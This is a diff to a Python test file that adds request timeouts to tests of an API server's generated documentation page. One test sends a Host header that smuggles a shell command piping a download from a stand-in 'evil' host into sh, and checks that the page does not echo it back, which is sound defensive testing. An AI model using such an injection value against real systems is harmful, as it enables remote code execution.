@@ -23,7 +23,7 @@ class Page(HTMLParser):
 
 
 def test_the_page(server):
-    answer = httpx.get(f"{server.url}/docs")
+    answer = httpx.get(f"{server.url}/docs", timeout=60)
     assert answer.status_code == 200
     assert answer.headers["content-type"] == "text/html; charset=utf-8"
     assert "default-src 'none'" in answer.headers["content-security-policy"]
@@ -39,18 +39,18 @@ def test_the_page(server):
 
 
 def test_every_operation_has_a_command_for_this_server(server):
-    text = httpx.get(f"{server.url}/docs").text
+    text = httpx.get(f"{server.url}/docs", timeout=60).text
     for path in ("/v1/inference", "/v1/runs", "/v1/runs/{id}/cancel", "/v1/models", "/v1/health"):
         assert f"{server.url}{path}" in text, path
     assert server.key not in text
 
 
 def test_both_themes_and_small_screens(server):
-    text = httpx.get(f"{server.url}/docs").text
+    text = httpx.get(f"{server.url}/docs", timeout=60).text
     assert "prefers-color-scheme: dark" in text
     assert re.search(r'<meta name="viewport"', text)
 
 
 def test_a_strange_host_is_not_repeated(server):
-    text = httpx.get(f"{server.url}/docs", headers={"Host": "x';curl evil|sh;'"}).text
+    text = httpx.get(f"{server.url}/docs", headers={"Host": "x';curl evil|sh;'"}, timeout=60).text
     assert "evil" not in text
